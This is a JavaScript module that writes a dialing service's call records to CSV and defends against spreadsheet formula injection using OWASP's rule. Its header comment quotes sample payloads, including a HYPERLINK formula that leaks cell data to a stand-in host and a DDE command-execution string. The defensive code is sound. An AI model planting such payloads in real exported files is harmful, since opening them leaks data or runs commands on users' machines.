// @ts-check
// A run's calls as CSV, written so that a spreadsheet opening the file runs nothing: shared by the
// console's "Download CSV" and the CLI's `calls --format csv` (clients/cli/format.ts imports this file
// from the site, since the browser can load only what the site serves), so both exports are one format.
//
// Lead fields are whatever a caller uploaded: `=HYPERLINK("https://evil.example/?"&A2,"open")`,
// `@SUM(…)` or `=cmd|' /C calc'!A0` in a name column runs as a formula when the file is opened in
// Excel, LibreOffice or Google Sheets. OWASP's rule for CSV injection is applied to every cell, the
// header row included (its lead-field columns are the caller's names): a cell that starts with `=`,
// `+`, `-`, `@`, tab or carriage return gets a leading `'`, which makes it text; and every cell is
// quoted with its quotes doubled, so a separator or line break inside a cell cannot start another.
// Also neutralised: a line feed or NUL first (what some readers strip before looking), and spaces
// before one of those signs (what LibreOffice's "trim spaces" import removes).
//
// Exempt: a cell whose whole text is a plain number (`-120`, `3.5e-2`) or a phone number as dialgate
// writes it, E.164 (`+972522345678`, also a plain number) or masked (`+972*******78`). Such text
// cannot be a formula: it names no function, reference or DDE link, so at worst a spreadsheet reads
// it as a number or an invalid expression, and nothing runs. Neutralising it would cost what the
// export is for: a `'` before every phone number would make `dialgate runs create` refuse the
// exported file (not E.164), and a `'` before every negative amount would make it text. The exemption
// is by content, not by column, so a lead field holding a phone number keeps it usable too, and a
// `phone` cell holding anything else would still be neutralised.

/** @typedef {import('../../../cli/api-types.ts').components['schemas']['CallView']} Call */

/** What a spreadsheet reads as the start of a formula: OWASP's signs and controls, LF and NUL. */
const FORMULA_START = /^(?:[=+\-@\t\r\n\0]|\s+[=+\-@])/;

/** A number and nothing else: decimal, optionally signed, with an optional exponent. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A masked phone number, as the API lists one without `reveal_phone`: `+972*******67`. */
const MASKED_PHONE = /^\+\d+\*+\d+$/;

/**
 * The text of one cell, neutralised when a spreadsheet could run it (see the top of this file).
 * @param {unknown} value
 * @returns {string}
 */
export function safeCellText(value) {
  const text =
    value === null || value === undefined
      ? ''
      : typeof value === 'object'
        ? JSON.stringify(value)
        : String(value);
  if (!FORMULA_START.test(text) || PLAIN_NUMBER.test(text) || MASKED_PHONE.test(text)) return text;
  return `'${text}`;
}

/**
 * One CSV cell: quoted, quotes doubled, formula-neutralised.
 * @param {unknown} value
 */
export function csvCell(value) {
  return `"${safeCellText(value).replace(/"/g, '""')}"`;
}

/**
 * Rows of cells, header first, one line each (`\n`; line breaks inside a cell stay inside its quotes).
 * @param {string[]} headers
 * @param {unknown[][]} rows
 */
export function csv(headers, rows) {
  return [headers, ...rows].map((row) => row.map(csvCell).join(',')).join('\n');
}

/** A call's own columns, in the order both exports write them. */
export const CALL_COLUMNS = /** @type {const} */ ([
  'job_id',
  'phone',
  'status',
  'outcome',
  'attempts',
  'error_code',
  'call_sid',
  'queued_at',
  'dialed_at',
  'answered_at',
  'answered_by',
  'ended_at',
]);

/**
 * Calls as CSV: the call's own columns, then the leads' fields, one column each, in the order first seen.
 * @param {Call[]} calls
 */
export function callsCsv(calls) {
  /** @type {string[]} */
  const extra = [];
  for (const call of calls)
    for (const name of Object.keys(call.attributes ?? {})) if (!extra.includes(name)) extra.push(name);
  return csv(
    [...CALL_COLUMNS, ...extra],
    calls.map((call) => [
      ...CALL_COLUMNS.map((column) => call[column]),
      ...extra.map((name) => call.attributes?.[name]),
    ]),
  );
}
